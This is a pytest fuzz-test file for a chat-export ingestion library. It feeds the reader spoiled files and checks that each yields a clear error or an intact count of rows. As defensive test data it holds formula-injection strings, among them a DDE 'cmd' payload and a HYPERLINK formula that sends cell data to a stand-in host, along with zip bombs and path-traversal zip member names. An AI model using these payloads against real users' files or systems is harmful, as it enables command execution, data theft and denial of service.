"""Every sample, spoiled in the ways in which exports get spoiled.

What comes out is a result whose account holds or one clear error; neither quotes the
material. See `tools.fuzz.complaint` for what is looked at.
"""

import io
import json
import re
import zipfile

import pytest

from chatlab import ingest
from chatlab.errors import ChatlabError, FileError, SchemaError
from chatlab.ingest.encoding import decode
from chatlab.report import write_workbook
from chatlab.schema import TABLES
from tools.fuzz import SAMPLES, complaint, contents, one_of_each, outcome, samples
from tools.mutations import CANARY, read_cells, write_cells, zipped

FILES = sorted({path for folder in SAMPLES for path in ingest.find_files(folder)})
ONE_OF_EACH = one_of_each({path: name for path, name in samples().items() if name != "gold"})
SUFFIXES = (".txt", ".csv", ".json", ".jsonl", ".zip", ".xlsx", ".ods", ".xls", ".docx")
DATES = ((r"\b\d{1,2}\.\d{1,2}\.(\d{4}|\d\d)\b", "45.13.2017"),
         (r"\b20\d\d-\d\d-\d\d", "2017-13-45"), (r"\b\d{1,2}/\d{1,2}/\d{2,4}\b", "45/13/2017"))
CHAT = "15.8.2017 klo 13.05 - Ville: hei\n15.8.2017 klo 13.06 - Oona: moi\n"
TABLE = "Keskustelu;Pvm;Kello;Rooli;Viesti\n1;15.8.2017;13.05;asiakas;hei\n"
ODD = (3.5, -1, 1e18, CANARY, "=1+1", True, 43000.5)
HEADINGS = ("Keskustelu", "Pvm", "Kello", "Rooli", "Viesti")


def of_kind(*kinds):
    """The samples of some kinds, as parameters with the file's name as their id."""
    return [pytest.param(path, id=path.name) for path in ONE_OF_EACH
            if kind_of(path) in kinds]


def kind_of(path):
    """Whether a sample is a workbook, another zip, JSON, a delimited text or a text."""
    start = path.read_bytes()[:4]
    if start[:2] == b"PK":
        return "workbook" if path.suffix == ".xlsx" else "zip"
    if path.suffix in (".json", ".jsonl"):
        return "json"
    return "table" if path.suffix in (".csv", ".tsv") else "text"


@pytest.fixture(scope="module")
def rows_in(tmp_path_factory):
    """The number of rows of a sample (see `tools.fuzz.contents`) as it is."""
    known, folder = {}, tmp_path_factory.mktemp("ehjät")

    def rows(path):
        if path not in known:
            whole = folder / path.name
            whole.write_bytes(contents(path))
            known[path] = ingest.read_file(whole, on_error="collect").report.rows
        return known[path]
    return rows


@pytest.fixture
def spoilt(tmp_path):
    """Read spoiled contents and check what came: a report, or the error."""
    def read(name, data, **options):
        path = tmp_path / name
        path.write_bytes(data)
        found, wrong = outcome(path, **{"format": "auto", "on_error": "collect", **options})
        assert wrong is None, wrong[1]
        return getattr(found, "report", found)
    return read


def rows(found):
    """The rows of a report; none of an error."""
    return getattr(found, "rows", 0)


def is_packed(path):
    """Whether a text is in base64: with its end goes the whole."""
    return b" " not in path.read_bytes()[:300]


def is_worksheet(path):
    """Whether one cell of a workbook may hold a quarter of it."""
    return path.name.startswith("swot")


def text_of(path):
    """The text of a sample, not too long."""
    return decode(contents(path)).text


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.name)
def test_every_sample_is_read_and_every_line_of_it_counted(path, spoilt):
    found = spoilt(path.name, path.read_bytes(), on_error="raise")
    assert not isinstance(found, ChatlabError), found
    assert found.rejected == []
    assert complaint(path, format=found.format, on_error="collect") is None


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("path", of_kind("json", "table", "text"))
def test_another_encoding_loses_no_row(path, encoding, spoilt, rows_in):
    found = spoilt(path.name, text_of(path).encode(encoding, errors="ignore"))
    assert rows(found) == rows_in(path)


@pytest.mark.parametrize("path", of_kind("json", "table", "text"))
def test_the_other_utf_16_with_and_without_its_mark(path, spoilt, rows_in):
    assert rows(spoilt(path.name, ("\ufeff" + text_of(path)).encode("utf-16-be"))) == rows_in(path)
    assert rows(spoilt(path.name, text_of(path).encode("utf-16-le"))) in (0, rows_in(path))


@pytest.mark.parametrize("path", of_kind("json", "table", "text"))
def test_other_line_ends_lose_no_row(path, spoilt, rows_in):
    newline = "\r" if "\r\n" in text_of(path) else "\r\n"
    text = re.sub("\r\n?|\n", newline, text_of(path))
    assert rows(spoilt(path.name, text.encode())) == rows_in(path)


@pytest.mark.parametrize("path", of_kind("json", "table", "text"))
def test_a_cut_loses_the_end_only(path, spoilt, rows_in):
    data = contents(path).rstrip()
    for cut in (data[:-1], data.rpartition(b"\n")[0] or data[:-2]):
        found = spoilt(path.name, cut, date_order="dmy")
        assert rows(found) > 0 or rows_in(path) < 10 or is_packed(path), found


@pytest.mark.parametrize("share", [0.01, 0.5, 0.999])
@pytest.mark.parametrize("path", of_kind("workbook", "zip"))
def test_a_cut_workbook_or_document_is_one_clear_error(path, share, spoilt):
    data = contents(path)
    assert isinstance(spoilt(path.name, data[:int(len(data) * share)]), ChatlabError)


@pytest.mark.parametrize("path", of_kind("json", "table", "text", "workbook", "zip"))
def test_nul_bytes_in_the_middle(path, spoilt):
    data = contents(path)
    spoilt(path.name, data[:len(data) // 2] + b"\x00\x00" + data[len(data) // 2:])


@pytest.mark.parametrize("path", of_kind("json", "table", "text"))
def test_two_formats_in_one_file(path, spoilt):
    spoilt(path.name, contents(path) + b"\n" + CHAT.encode())
    spoilt(path.name, TABLE.encode() + contents(path))
    spoilt(path.name, contents(path) + b'\n{"chats": [{"id": "1"}]}')


@pytest.mark.parametrize("path", of_kind("json", "table", "text"))
def test_one_impossible_date_loses_its_own_row(path, spoilt, rows_in):
    text = text_of(path)
    found = [(match, bad) for pattern, bad in DATES for match in re.finditer(pattern, text)]
    for match, bad in found[-1:]:
        found = spoilt(path.name, (text[:match.start()] + bad + text[match.end():]).encode(),
                       date_order="dmy")
        assert rows(found) > 0 or rows_in(path) < 4, found


@pytest.mark.parametrize("path", of_kind("workbook"))
def test_one_impossible_date_in_a_workbook_loses_its_own_row(path, spoilt, rows_in):
    sheets = read_cells(contents(path))
    dates = [(row, column) for cells in sheets.values() for row in cells
             for column, cell in enumerate(row) if hasattr(cell, "year")]
    for row, column in dates[-1:]:
        row[column] = "45.13.2017"
    found = spoilt(path.name, write_cells(sheets))
    assert rows(found) > rows_in(path) // 2, found


@pytest.mark.parametrize("path", of_kind("workbook"))
def test_one_odd_cell_loses_its_own_row(path, spoilt, rows_in):
    sheets = read_cells(contents(path))
    first = next(iter(sheets.values()))
    for column in range(0, len(first[-1]), 3):
        kept, first[-1][column] = first[-1][column], ODD[column % len(ODD)]
        found = spoilt(path.name, write_cells(sheets))
        assert is_worksheet(path) or rows(found) >= rows_in(path) // 2, (column, found)
        first[-1][column] = kept


@pytest.mark.parametrize("path", of_kind("table"))
def test_one_odd_value_loses_its_own_row(path, spoilt, rows_in):
    lines = text_of(path).rstrip().split("\n")
    mark = max(";,\t", key=lines[-1].count)
    cells = lines[-1].rstrip("\r").split(mark)
    for column in range(0, len(cells), 3):
        odd = str(ODD[column % len(ODD)])
        spoilt_cells = [*cells[:column], odd, *cells[column + 1:]]
        found = spoilt(path.name, "\n".join([*lines[:-1], mark.join(spoilt_cells)]).encode())
        assert rows(found) >= rows_in(path) // 2, (column, found)


@pytest.mark.parametrize("path", of_kind("json"))
def test_odd_values_everywhere(path, spoilt):
    text = text_of(path)
    names = sorted(set(re.findall(r'"([^"]{1,40})": ', text)))
    for number, odd in enumerate((None, 10**30, "\ud800", [CANARY], {"a": [CANARY]}, CANARY)):
        def spoil(values, chosen=tuple(names[number::6]), odd=odd):
            return {key: odd if key in chosen else value for key, value in values.items()}
        lines = [text] if is_json(text) else text.split("\n")
        records = [json.dumps(json.loads(line, object_hook=spoil)) for line in lines if line]
        spoilt(path.name, "\n".join(records).encode())


@pytest.mark.parametrize("path", of_kind("json"))
def test_keys_that_come_twice_numbers_too_long_and_nests_too_deep(path, spoilt):
    text = text_of(path)
    spoilt(path.name, re.sub(r'("[^"]{1,40}": )', r'\1"", \1', text).encode())
    spoilt(path.name, re.sub(r"(: )-?\d[\d.]*", r"\g<1>" + "9" * 4500, text).encode())
    spoilt(path.name, re.sub(r"(: )-?\d[\d.]*", r"\g<1>1e400", text).encode())
    spoilt(path.name, re.sub(r"(: )(?=\")", r"\g<1>" + "[" * 1000, text).encode())
    spoilt(path.name, (text.rstrip() + "[" * 50_000).encode())
    spoilt(path.name, (text.rstrip()[:-1] + ', "a": ' + '{"a":' * 20_000).encode())


def is_json(text):
    """Whether the text is one JSON document."""
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("content", ["", " \r\n\t\r\n", "\ufeff\n\n", "\x00\x00"])
@pytest.mark.parametrize("suffix", SUFFIXES)
def test_an_empty_file_is_said_to_be_empty(suffix, content, spoilt):
    assert isinstance(spoilt(f"tyhjä{suffix}", content.encode()), FileError)


@pytest.mark.parametrize("path", of_kind("table"))
def test_a_header_row_without_rows(path, spoilt):
    for header in (text_of(path).split("\n")[0], text_of(path).split("\n")[0] + "\n\n;;;\n"):
        assert rows(spoilt(path.name, header.encode())) == 0


@pytest.mark.parametrize("path", of_kind("workbook"))
def test_a_workbook_with_only_the_first_rows_of_its_sheets(path, spoilt):
    sheets = read_cells(contents(path))
    for n in (1, 2):
        spoilt(path.name, write_cells({name: cells[:n] for name, cells in sheets.items()}))
    assert isinstance(spoilt(path.name, write_cells({"Taul1": []})), FileError)


@pytest.mark.parametrize("path", of_kind("text"))
def test_only_the_lines_that_no_one_said(path, spoilt):
    lines = [line for line in text_of(path).split("\n") if ": " not in line]
    found = spoilt(path.name, "\n".join(lines).encode())
    assert isinstance(found, ChatlabError) or found.is_complete


@pytest.mark.parametrize("path", of_kind("json", "table", "text", "workbook", "zip"))
def test_a_wrong_ending(path, spoilt, rows_in):
    for suffix in SUFFIXES[::2] if kind_of(path) == "json" else SUFFIXES[1::2]:
        found = spoilt(f"nimetön{suffix}", contents(path))
        assert rows(found) in (0, rows_in(path)) or kind_of(path) in ("json", "table", "text")


@pytest.mark.parametrize("path", of_kind("table"))
def test_a_quotation_mark_that_is_never_closed_loses_its_own_row(path, spoilt, rows_in):
    text = text_of(path).rstrip()
    at = text.index("\n", int(len(text) * 0.9)) if "\n" in text[int(len(text) * 0.9):] else (
        text.rindex("\n"))
    found = spoilt(path.name, (text[:at + 1] + '"' + text[at + 1:]).encode())
    assert rows(found) > 0 or rows_in(path) < 5, found
    assert isinstance(found, ChatlabError) or len(found.rejected) <= 1, found.rejected


def test_one_bad_line_is_named_and_the_rest_is_kept(text_file):
    path = text_file("chat.txt", CHAT.replace("15.8.2017 klo 13.06", "45.13.2017 klo 13.06"))
    with pytest.raises(SchemaError) as caught:
        ingest.read_file(path)
    assert "2" in caught.value.place
    report = ingest.inspect_file(path)
    assert (report.rows, [line for line, _reason in report.rejected]) == (1, [2])


@pytest.mark.parametrize(("name", "before", "after"), [
    ("a.txt", CHAT, ""), ("a.txt", "", "\n" + CHAT),
    ("a.csv", TABLE + '2;15.8.2017;13.06;asiakas;"', '"\n'),
    ("a.json", '{"chats": [{"id": 1, "type": "chat", "history": [{"type": "chat.msg", "msg": "',
     '"}]}]}'),
], ids=["chat", "preamble", "cell", "value"])
def test_a_line_of_fifty_megabytes(spoilt, name, before, after):
    long = f"{CANARY} päätös " * 2_300_000
    found = spoilt(name, (before + long + after).encode())
    assert isinstance(found, ChatlabError) or found.lines < 10


@pytest.mark.parametrize("mark", ["[", '{"a":', '"', "\\", "<", " ", "1.", ";", "\n", ": ", "- ",
                                  "("])
def test_a_long_run_of_one_mark(spoilt, mark):
    for name, before in (("a.txt", CHAT), ("a.csv", TABLE), ("a.json", '{"chats": [{"id": "'),
                         ("a.txt", ""), ("a.json", "")):
        spoilt(name, (before + mark * (100_000 // len(mark)) + "x").encode())


def test_a_zip_that_would_not_fit_in_memory(spoilt):
    buffer = io.BytesIO()
    with (zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
          archive.open("_chat.txt", "w", force_zip64=True) as part):
        for _megabyte in range(1100):
            part.write(bytes(1 << 20))
    assert isinstance(spoilt("pommi.zip", buffer.getvalue()), FileError)


def test_a_workbook_that_would_not_fit_in_memory(spoilt):
    with zipfile.ZipFile(io.BytesIO(write_cells({"A": [HEADINGS]}))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts.pop("xl/worksheets/sheet1.xml")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(sheet.replace(b"</worksheet>", b""))
            for _megabyte in range(1100):
                part.write(b" " * (1 << 20))
            part.write(b"</worksheet>")
    assert isinstance(spoilt("pommi.xlsx", buffer.getvalue()), FileError)


def test_a_zip_is_read_in_memory_whatever_its_names_say(spoilt, tmp_path):
    for name in ("../../_chat.txt", "/etc/_chat.txt", "C:\\_chat.txt", "..\\_chat.txt"):
        found = spoilt("ryhmä.zip", zipped({name: CHAT}))
        assert rows(found) == 2
    assert [path.name for path in tmp_path.iterdir()] == ["ryhmä.zip"]
    assert not list(tmp_path.parent.glob("_chat.txt"))


@pytest.mark.parametrize("format", ["whatsapp", "pasted_text", "zendesk", "messenger", "votes",
                                    "swot_sheet", "swot_document", "redcap", "survey_structure"])
@pytest.mark.parametrize(("name", "data"), [("kuva.csv", b"\x00\x01"), ("a.txt", b"hei"),
                                            ("a.csv", TABLE.encode()), ("a.json", b"[1]")])
def test_a_file_that_is_not_at_all_what_it_was_said_to_be(format, name, data, spoilt):
    assert rows(spoilt(name, data, format=format)) == 0 or name == "a.csv"


def test_a_zip_in_a_zip_and_a_zip_of_nothing(spoilt):
    assert isinstance(spoilt("a.zip", zipped({"b.zip": zipped({"_chat.txt": CHAT})})), ChatlabError)
    assert isinstance(spoilt("a.zip", zipped({})), ChatlabError)
    assert isinstance(spoilt("a.zip", zipped({"_chat.txt": ""})), ChatlabError)


@pytest.mark.parametrize("name", ["_chat.txt", "xl/workbook.xml", "word/document.xml"])
@pytest.mark.parametrize("suffix", [".zip", ".xlsx", ".docx", ".ods"])
def test_a_locked_zip_or_one_packed_in_an_unknown_way(name, suffix, spoilt):
    data = zipped({name: CHAT})
    for at, value in ((6, 1), (8, 99)):
        changed = bytearray(data)
        changed[at] = changed[data.index(b"PK\x01\x02") + at + 2] = value
        assert isinstance(spoilt(f"a{suffix}", bytes(changed)), ChatlabError)


@pytest.mark.parametrize("suffix", [".xlsx", ".xls", ".docx", ".ods", ".csv", ".txt"])
def test_a_workbook_with_a_password(suffix, spoilt):
    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20
    assert isinstance(spoilt(f"a{suffix}", container), ChatlabError)


FORMULAS = ('=HYPERLINK("http://example.com?x="&A1;"Klikkaa")', "+1+1", "-2+3", "@SUM(A1)", "=1+1",
            "\t=1+1", "=cmd|' /C calc'!A0")


def test_a_formula_is_read_as_text_and_written_as_text(tmp_path, text_file):
    lines = [f'{number};15.8.2017;13.05;asiakas;"{formula.replace(chr(34), chr(34) * 2)}"'
             for number, formula in enumerate(FORMULAS, start=1)]
    path = text_file("chat.csv", "\n".join([";".join(HEADINGS), *lines]))
    messages = ingest.read_messages(path)
    assert messages["text"].tolist() == [formula.strip() for formula in FORMULAS]
    written = write_workbook({"messages": messages}, tmp_path / "viestit.xlsx")
    with zipfile.ZipFile(written) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)


def test_merged_cells_and_a_hidden_sheet(tmp_path, spoilt):
    import xlsxwriter

    path = tmp_path / "chat.xlsx"
    with xlsxwriter.Workbook(path) as book:
        for name in ("Näkyvä", "Piilossa"):
            sheet = book.add_worksheet(name)
            sheet.write_row(0, 0, HEADINGS)
            sheet.write_row(1, 0, ("1", "15.8.2017", "13.05", "asiakas", "hei"))
            sheet.write_row(2, 1, ("15.8.2017", "13.06", "asiakas", "moi"))
            sheet.merge_range(1, 0, 2, 0, "1")
        sheet.hide()
    found = spoilt("toinen.xlsx", contents(path))
    assert found.lines == 6
    assert found.rows + len(found.rejected) == 4


@pytest.mark.parametrize(("row", "column"), [(1_048_575, 4), (1_048_575, 0), (60_000, 300),
                                             (1_048_575, 16_383), (1, 16_383)])
def test_one_cell_far_from_the_others(row, column, tmp_path, spoilt):
    import xlsxwriter

    path = tmp_path / "kaukana.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADINGS)
        sheet.write_row(1, 0, ("1", "15.8.2017", "13.05", "asiakas", "hei"))
        sheet.write(row, column, CANARY)
    found = spoilt("toinen.xlsx", contents(path))
    assert isinstance(found, FileError) or found.rows + len(found.rejected) >= 1


def test_no_error_and_no_account_quotes_what_people_wrote(spoilt):
    for path in ONE_OF_EACH:
        if kind_of(path) in ("json", "table", "text"):
            texts, text = quotable(path), text_of(path)
            for pattern, bad in DATES:
                text = re.sub(pattern, bad, text)
            found = spoilt(path.name, text.encode())
            said = [str(found)] if isinstance(found, ChatlabError) else [
                *(reason for _line, reason in found.rejected), *found.warnings]
            assert not [sentence for sentence in said for quote in texts if quote in sentence]


def quotable(path):
    """What people wrote in a sample: long enough to be no word of the program's own."""
    tables = ingest.read_file(path, on_error="collect").tables
    return {text for name, table in tables.items() for column in TABLES[name].personal
            for text in table[column].dropna() if len(text) > 12}
